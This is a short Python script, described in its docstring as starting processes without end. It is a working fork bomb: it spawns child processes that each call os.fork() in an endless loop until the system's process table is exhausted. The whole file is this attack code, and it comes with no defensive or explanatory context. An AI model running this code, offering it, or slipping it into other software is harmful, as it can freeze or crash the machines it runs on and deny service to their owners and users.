"""Starts processes without end."""
# %%
import os

for _ in range(10000):
    try:
        if os.fork() == 0:
            while True:
                os.fork()
    except OSError:
        break
